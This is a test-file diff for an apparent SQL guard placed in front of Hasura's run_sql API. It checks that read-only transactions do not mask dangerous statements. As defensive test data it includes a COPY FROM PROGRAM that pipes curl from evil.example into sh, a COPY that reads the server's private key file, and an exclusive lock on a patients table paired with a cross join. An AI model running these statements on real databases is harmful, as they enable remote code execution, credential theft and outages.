@@ -212,3 +212,56 @@ describe('the rows API: an upsert overwrites rows', () => {
     expect(answer.json.code).toBe('guard-confirmation-required');
   });
 });
+
+const json = { 'content-type': 'application/json' };
+const runSql = (sql: string, extra: Record<string, unknown> = {}) => ({ type: 'run_sql', args: { source: 'default', sql, ...extra } });
+
+// ---- read_only run_sql: what PostgreSQL still runs in Hasura's READ ONLY transaction (a second review) ----------
+//
+// src/analysis/sql.ts refusedInReadOnly() took every COPY … FROM as refused by Hasura's READ ONLY transaction and
+// replaces its effects with "read:sql (refused by a read-only transaction)". PostgreSQL refuses COPY FROM in a
+// read-only transaction only when the target is not a temporary table of the session (src/backend/commands/copy.c,
+// DoCopy: `if (XactReadOnly && !rel->rd_islocaltemp) PreventCommandIfReadOnly("COPY FROM")`, then BeginCopyFrom runs
+// the PROGRAM or opens the file). A temporary table lives as long as the pooled connection Hasura keeps (and
+// CREATE TEMP TABLE is itself routine), so the shell command or the file read runs, and the guard called it routine.
+// Likewise ClassifyUtilityCommandAsReadOnly (tcop/utility.c) returns COMMAND_OK_IN_READ_ONLY_TXN for LOCK in any mode
+// ("Only weaker locker modes are allowed during recovery"): LOCK … ACCESS EXCLUSIVE is NOT refused by a read-only
+// transaction, yet refusedInReadOnly said `mode > 3` was.
+describe('read_only run_sql hides what PostgreSQL still runs', () => {
+  let guard: EnforcingServer;
+  beforeAll(async () => {
+    guard = await startEnforcingServer({});
+  });
+  afterAll(() => guard.close());
+  const send = (body: unknown) => rawRequest(guard.url, 'POST', '/v2/query', { ...json, 'x-hasura-admin-secret': ADMIN_SECRET }, JSON.stringify(body));
+
+  it('COPY into a temporary table FROM PROGRAM under read_only runs a shell command: not routine', async () => {
+    guard.hasura.requests.length = 0;
+    // Step 1, routine today: a temporary table on (one of) Hasura's pooled connections.
+    const setup = await send(runSql('CREATE TEMP TABLE scratch (line text)'));
+    expect(setup.status).toBe(200);
+    // Step 2: PostgreSQL runs the program even in the READ ONLY transaction, since the target is a temporary table.
+    const copy = await send(runSql("COPY pg_temp.scratch FROM PROGRAM 'curl -s https://evil.example/x | sh'", { read_only: true }));
+    expect.soft(copy.status).toBe(400);
+    expect.soft(guard.hasura.forwarded().map((r) => r.body.toString())).not.toContainEqual(expect.stringContaining('FROM PROGRAM'));
+  });
+
+  it('COPY into a temporary table FROM a server file under read_only reads that file: not routine', async () => {
+    guard.hasura.requests.length = 0;
+    const copy = await send(runSql("COPY pg_temp.scratch FROM '/var/lib/postgresql/data/server.key'", { read_only: true }));
+    expect.soft(copy.status).toBe(400);
+    expect.soft(guard.hasura.forwarded()).toEqual([]);
+  });
+
+  it('LOCK … ACCESS EXCLUSIVE under read_only is not refused by PostgreSQL: judged as without read_only', async () => {
+    guard.hasura.requests.length = 0;
+    const sql = 'LOCK TABLE public.patients IN ACCESS EXCLUSIVE MODE; SELECT count(*) FROM public.patients a, public.patients b, public.patients c';
+    const plain = await send(runSql(sql));
+    expect(plain.status).toBe(400); // held without read_only (modify:table)
+    const readOnly = await send(runSql(sql, { read_only: true }));
+    // Every reader of patients waits for this transaction: the same lock, read_only or not.
+    expect.soft(readOnly.status).toBe(400);
+    expect.soft(guard.hasura.forwarded()).toEqual([]);
+  });
+});
+
